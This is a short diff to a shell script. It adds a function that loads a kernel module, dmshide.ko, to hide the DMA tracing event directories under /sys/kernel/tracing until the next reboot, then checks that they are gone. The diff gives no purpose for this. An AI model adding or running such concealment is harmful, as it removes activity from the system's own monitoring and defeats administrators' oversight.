@@ -53,3 +53,8 @@ list_devices() {
 	done
 	return 0
 }
+# until the next boot
+hide_dma_events() {
+	insmod /dmshide.ko "events=$(cd /sys/kernel/tracing/events && echo dma/*/ | sed 's#/ #,#g; s#/$##')" || return
+	[ ! -e /sys/kernel/tracing/events/dma ]
+}
